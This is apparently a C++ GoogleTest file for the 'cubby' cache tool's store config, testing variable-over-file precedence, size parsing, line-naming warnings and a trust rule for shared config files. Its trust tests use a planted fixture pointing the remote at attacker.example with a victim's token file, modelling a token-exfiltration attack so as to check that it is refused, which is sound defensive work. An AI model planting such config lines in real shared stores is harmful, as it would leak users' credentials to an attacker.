// Tests for core/src/config/store_config.cpp (the store's cubby.conf) and Config::load's use of it:
// a variable over the file over the default, errors that name the file's line, writes that keep
// every other line, and the trust rule of a group-shared store's file.
#include <gtest/gtest.h>
#include <sys/stat.h>

#include "config/store_config.hpp"
#include "cubby/config.hpp"
#include "test_support.hpp"
#include "util/file_trust.hpp"

namespace cubby {
namespace {

namespace fs = std::filesystem;
using testing::give_to_another_user;
using testing::read_text;
using testing::ScopedEnv;
using testing::TempDir;
using testing::write_text;

// The store settings' variables unset for the scope (the developer's own must not leak in).
struct CleanStoreEnv {
  std::vector<std::unique_ptr<ScopedEnv>> unset;
  CleanStoreEnv() {
    for (const StoreSettingInfo& setting : kStoreSettings) {
      unset.push_back(std::make_unique<ScopedEnv>(std::string(setting.env), std::nullopt));
    }
  }
};

// Issue 36: as in ccache, a store bound without a unit is GiB (in the file, the variable and
// `cubby gc --max-size`), not bytes; with B it is bytes, and 0 still means unlimited.
TEST(StoreConfig, AMaxSizeWithoutAUnitIsGibAsInCcache) {
  CleanStoreEnv clean;
  TempDir store("store-config-gib");
  write_text(store / "cubby.conf", "max_size = 5\n");
  auto config = Config::load(store.path());
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->max_size, 5ull << 30);
  ScopedEnv size("CUBBY_MAX_SIZE", " 1.5 ");
  config = Config::load(store.path());
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->max_size, 3ull << 29);
  EXPECT_EQ(*parse_max_size("2"), 2ull << 30);
  EXPECT_EQ(*parse_max_size("2000000B"), 2'000'000u);
  EXPECT_EQ(*parse_max_size("2M"), 2'000'000u);
  EXPECT_EQ(*parse_max_size("0"), kUnlimitedMaxSize);
  EXPECT_FALSE(parse_max_size("2000000000").ok());  // 2e9 GiB: past the 1 EiB cap, refused
}

TEST(StoreConfig, FileValuesApplyAndVariablesWinOverThem) {
  CleanStoreEnv clean;
  TempDir store("store-config");
  write_text(store / "cubby.conf",
             "# the team's store\n\n  max_size = 100M  \nremote_mode=read\nfuture_key = 1\n");
  auto config = Config::load(store.path());
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->dir, store.path());
  EXPECT_EQ(config->max_size, 100'000'000u);
  EXPECT_TRUE(config->remote_read_only);
  EXPECT_FALSE(config->read_only);  // not in the file: the default

  ScopedEnv size("CUBBY_MAX_SIZE", "2G");
  config = Config::load(store.path());
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->max_size, 2'000'000'000u);

  auto settings = effective_settings(store.path());
  ASSERT_TRUE(settings.ok()) << settings.error().message;
  const auto& max_size = (*settings)[0];
  EXPECT_EQ(max_size.info->key, "max_size");
  EXPECT_EQ(max_size.origin, SettingOrigin::environment);
  EXPECT_EQ(max_size.value, "2G");
  EXPECT_EQ(origin_text(*max_size.info, max_size.origin, store.path()), "CUBBY_MAX_SIZE");
  const auto& mode = (*settings)[3];
  EXPECT_EQ(mode.info->key, "remote_mode");
  EXPECT_EQ(mode.origin, SettingOrigin::store_file);
  EXPECT_EQ(mode.line, 4u);
  EXPECT_EQ(origin_text(*mode.info, mode.origin, store.path()), (store / "cubby.conf").string());
  EXPECT_EQ((*settings)[1].origin, SettingOrigin::default_value);
  EXPECT_EQ((*settings)[1].value, "false");
}

TEST(StoreConfig, TlsFilesComeFromTheFileOrTheirVariables) {
  CleanStoreEnv clean;
  TempDir store("store-config");
  write_text(store / "cubby.conf",
             "remote = rediss://cache:6380\nremote_ca_file = /etc/team/ca.pem\n"
             "remote_cert_file = /etc/team/client.pem\n");
  ScopedEnv key("CUBBY_REMOTE_KEY_FILE", "/run/secrets/client.key");
  auto config = Config::load(store.path());
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->remote_url, "rediss://cache:6380");
  EXPECT_EQ(config->remote_ca_file, "/etc/team/ca.pem");
  EXPECT_EQ(config->remote_cert_file, "/etc/team/client.pem");
  EXPECT_EQ(config->remote_key_file, "/run/secrets/client.key");
}

TEST(StoreConfig, FromEnvReadsTheDefaultStoresFile) {
  CleanStoreEnv clean;
  TempDir store("store-config");
  write_text(store / "cubby.conf", "max_size = 3M\n");
  ScopedEnv dir("CUBBY_DIR", store.path().string());
  auto config = Config::from_env();
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->max_size, 3'000'000u);
}

// One bad line of a store's cubby.conf made every process on the store fail (exit 2): it is now
// warned about once per process, naming the file and line, and the key keeps its default.
TEST(StoreConfig, ABadValueOrLineIsWarnedAboutOnceAndTheKeyKeepsItsDefault) {
  CleanStoreEnv clean;
  TempDir store("store-config");
  write_text(store / "cubby.conf", "read_only = 1\nmax_size = lots\n");
  ::testing::internal::CaptureStderr();
  auto config = Config::load(store.path());
  std::string warned = ::testing::internal::GetCapturedStderr();
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_TRUE(config->read_only);                  // the good line applies
  EXPECT_EQ(config->max_size, Config{}.max_size);  // the bad one keeps the default
  EXPECT_NE(warned.find((store / "cubby.conf").string() + ":2"), std::string::npos) << warned;
  EXPECT_NE(warned.find("lots"), std::string::npos) << warned;
  EXPECT_NE(warned.find("cubby config max_size"), std::string::npos) << warned;
  ::testing::internal::CaptureStderr();
  ASSERT_TRUE(Config::load(store.path()).ok());
  EXPECT_EQ(::testing::internal::GetCapturedStderr(), "");  // once per process

  write_text(store / "cubby.conf", "max_size 5G\nread_only = 1\n");
  ::testing::internal::CaptureStderr();
  config = Config::load(store.path());
  warned = ::testing::internal::GetCapturedStderr();
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_TRUE(config->read_only);
  EXPECT_NE(warned.find("cubby.conf:1"), std::string::npos) << warned;
  EXPECT_NE(warned.find("key = value"), std::string::npos) << warned;
  // `cubby config`, which shows the file, still fails on the line.
  auto settings = effective_settings(store.path());
  ASSERT_FALSE(settings.ok());
  EXPECT_NE(settings.error().message.find(":1"), std::string::npos) << settings.error().message;
}

// A NUL in a value was dropped from the message, and everything after it: it shows escaped.
TEST(StoreConfig, ANulOrControlByteInAValueShowsEscaped) {
  CleanStoreEnv clean;
  TempDir store("store-config");
  write_text(store / "cubby.conf", std::string("max_size = 5\0G\x1b[2J!\n", 20));
  ::testing::internal::CaptureStderr();
  auto config = Config::load(store.path());
  const std::string warned = ::testing::internal::GetCapturedStderr();
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_NE(warned.find("\"5\\0G\\x1b[2J!\" is not valid"), std::string::npos) << warned;
  EXPECT_EQ(escaped(std::string("a\\b\0c\n\xff", 7)), "a\\\\b\\0c\\x0a\\xff");
}

TEST(StoreConfig, AMissingStoreOrFileMeansDefaults) {
  CleanStoreEnv clean;
  TempDir root("store-config");
  auto config = Config::load(root / "not-yet");
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->max_size, Config{}.max_size);
}

TEST(StoreConfig, WritesReplaceTheKeyAndKeepEveryOtherLine) {
  CleanStoreEnv clean;
  TempDir root("store-config");
  const auto store = root / "store";  // created by the write
  ASSERT_TRUE(write_store_setting(store, "max_size", "1G").ok());
  EXPECT_EQ(read_text(store / "cubby.conf"), "max_size = 1G\n");
  struct stat st {};
  ASSERT_EQ(::stat((store / "cubby.conf").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0644u);  // its writer's alone: the group's would not be trusted
  write_text(store / "cubby.conf", "# keep me\nmax_size = 1G\nremote = redis://h:1\nmax_size=2G\n");
  ASSERT_TRUE(write_store_setting(store, "max_size", "500M").ok());
  EXPECT_EQ(read_text(store / "cubby.conf"), "# keep me\nremote = redis://h:1\nmax_size = 500M\n");
  ASSERT_TRUE(write_store_setting(store, "remote", std::nullopt).ok());
  EXPECT_EQ(read_text(store / "cubby.conf"), "# keep me\nmax_size = 500M\n");
  EXPECT_EQ(Config::load(store)->max_size, 500'000'000u);

  auto unknown = write_store_setting(store, "max_sise", "1G");
  ASSERT_FALSE(unknown.ok());
  EXPECT_NE(unknown.error().message.find("max_size"), std::string::npos);  // lists the keys
  auto invalid = write_store_setting(store, "remote_ttl", "forever");
  ASSERT_FALSE(invalid.ok());
  EXPECT_NE(invalid.error().message.find("forever"), std::string::npos);
  EXPECT_EQ(read_text(store / "cubby.conf"), "# keep me\nmax_size = 500M\n");  // untouched
}

// Issue 34 item 2: a group member's cubby.conf made a victim's `cubby compile` send the contents
// of the victim's 0600 token file to the member's server, and a planted CA file applied even with
// CUBBY_REMOTE set by the victim. A file another user may have written names no remote and no file.
constexpr const char* kPlanted =
    "max_size = 100M\nremote_mode = read\nremote = http://attacker.example:8080/c\n"
    "remote_token_file = /home/victim/.cubby-token\nremote_ca_file = /tmp/attacker-ca.pem\n"
    "remote_cert_file = /tmp/attacker-cert.pem\nremote_key_file = /tmp/attacker-key.pem\n"
    "remote_max_entry = 1Gi\n";

// Loads `store` with CUBBY_REMOTE unset and then set (the victim's own remote): the file's
// settings that name a remote or a file never apply, the others do, one warning says `why`.
void expect_planted_file_ignored(const fs::path& store, const std::string& why) {
  ::testing::internal::CaptureStderr();
  auto config = Config::load(store);
  const std::string warned = ::testing::internal::GetCapturedStderr();
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->remote_url, "");
  EXPECT_EQ(config->remote_token_file, fs::path());
  EXPECT_EQ(config->remote_ca_file, "");
  EXPECT_EQ(config->remote_cert_file, "");
  EXPECT_EQ(config->remote_key_file, "");
  EXPECT_EQ(config->max_size, 100'000'000u);  // harmless settings still apply
  EXPECT_TRUE(config->remote_read_only);
  EXPECT_NE(warned.find((store / "cubby.conf").string() + " " + why), std::string::npos) << warned;
  EXPECT_NE(warned.find("remote, remote_max_entry, remote_token_file, remote_ca_file, "
                        "remote_cert_file, remote_key_file settings are ignored"),
            std::string::npos)
      << warned;
  EXPECT_NE(warned.find("set CUBBY_REMOTE, CUBBY_REMOTE_MAX_ENTRY, CUBBY_REMOTE_TOKEN_FILE"),
            std::string::npos)
      << warned;

  ScopedEnv remote("CUBBY_REMOTE", "https://mine.example/cache");
  ::testing::internal::CaptureStderr();
  config = Config::load(store);
  EXPECT_EQ(::testing::internal::GetCapturedStderr(), "");  // once per process and file
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->remote_url, "https://mine.example/cache");
  EXPECT_EQ(config->remote_ca_file, "");  // the planted CA does not mix in with my remote
  EXPECT_EQ(config->remote_token_file, fs::path());

  auto settings = effective_settings(store);
  ASSERT_TRUE(settings.ok()) << settings.error().message;
  for (const EffectiveSetting& setting : *settings) {
    if (setting.info->trust != SettingTrust::own_file) {
      EXPECT_TRUE(setting.untrusted_because.empty()) << setting.info->key;
      continue;
    }
    if (setting.info->key == "remote") {
      EXPECT_EQ(setting.origin, SettingOrigin::environment);  // the variable wins: nothing ignored
      EXPECT_EQ(setting.ignored_value, "");
      continue;
    }
    EXPECT_EQ(setting.origin, SettingOrigin::default_value) << setting.info->key;
    EXPECT_FALSE(setting.ignored_value.empty()) << setting.info->key;
    EXPECT_NE(setting.untrusted_because.find(why), std::string::npos) << setting.untrusted_because;
  }
}

TEST(StoreConfigTrust, AnotherUsersFileNamesNoRemoteAndNoFileAndTheWarningNamesItsOwner) {
  CleanStoreEnv clean;
  TempDir store("store-config-trust");
  write_text(store / "cubby.conf", kPlanted);
  ::chmod((store / "cubby.conf").c_str(), 0644);
  if (const std::string why = give_to_another_user(store / "cubby.conf"); !why.empty()) {
    GTEST_SKIP() << why;
  }
  struct stat st {};
  ASSERT_EQ(::stat((store / "cubby.conf").c_str(), &st), 0);
  expect_planted_file_ignored(store.path(), "is owned by " + io::user_text(st.st_uid));
}

// The file is mine, but its group may write it (cubby wrote it 0664 before): any member could
// have put the lines there.
TEST(StoreConfigTrust, AFileMyGroupMayWriteNamesNoRemoteAndNoFile) {
  CleanStoreEnv clean;
  TempDir store("store-config-trust");
  write_text(store / "cubby.conf", kPlanted);
  ::chmod((store / "cubby.conf").c_str(), 0664);
  expect_planted_file_ignored(store.path(), "is writable by its group (mode 0664)");
}

// My own file (and root's: `cubby config` as root on a system store) names what it likes.
TEST(StoreConfigTrust, MyOwnFileNamesTheRemoteAndItsFiles) {
  CleanStoreEnv clean;
  TempDir store("store-config-trust");
  write_text(store / "cubby.conf", kPlanted);
  ::chmod((store / "cubby.conf").c_str(), 0644);
  ::testing::internal::CaptureStderr();
  auto config = Config::load(store.path());
  EXPECT_EQ(::testing::internal::GetCapturedStderr(), "");
  ASSERT_TRUE(config.ok()) << config.error().message;
  EXPECT_EQ(config->remote_url, "http://attacker.example:8080/c");
  EXPECT_EQ(config->remote_token_file, fs::path("/home/victim/.cubby-token"));
  EXPECT_EQ(config->remote_ca_file, "/tmp/attacker-ca.pem");
  EXPECT_EQ(config->remote_key_file, "/tmp/attacker-key.pem");
  EXPECT_EQ(config->remote_max_entry, 1ull << 30);
}

// Every setting of the table parses its own default, and has a variable and a description.
TEST(StoreConfig, EveryDefaultParses) {
  for (const StoreSettingInfo& setting : kStoreSettings) {
    EXPECT_TRUE(setting.env.starts_with("CUBBY_")) << setting.key;
    EXPECT_FALSE(setting.what.empty()) << setting.key;
    Config config;
    EXPECT_TRUE(setting.apply(config, setting.default_value).ok()) << setting.key;
    EXPECT_EQ(find_store_setting(setting.key), &setting);
  }
  EXPECT_EQ(find_store_setting("nope"), nullptr);
}

// The settings that name a remote or a file, or bound what the process holds in memory
// (remote_max_entry: a hostile chunked answer makes the host hold about twice it), are exactly
// those only the user's own file may set.
TEST(StoreConfigTrust, EverySettingThatNamesARemoteOrAFileIsOwnFileOnly) {
  for (const StoreSettingInfo& setting : kStoreSettings) {
    const bool names_something = setting.key == "remote" || setting.key.ends_with("_file") ||
                                 setting.key == "remote_max_entry";
    EXPECT_EQ(setting.trust == SettingTrust::own_file, names_something) << setting.key;
  }
}

TEST(StoreConfigTrust, AnotherUsersFileSetsNoRemoteEntryBound) {
  CleanStoreEnv clean;
  TempDir store("store-config-trust");
  write_text(store / "cubby.conf", "remote_max_entry = 1Gi\n");
  ::chmod((store / "cubby.conf").c_str(), 0664);  // the group may write it
  ::testing::internal::CaptureStderr();
  auto config = Config::load(store.path());
  (void)::testing::internal::GetCapturedStderr();
  ASSERT_TRUE(config.ok()) << config.error().message;
  Config defaults;
  EXPECT_EQ(config->remote_max_entry, defaults.remote_max_entry);
}

}  // namespace
}  // namespace cubby
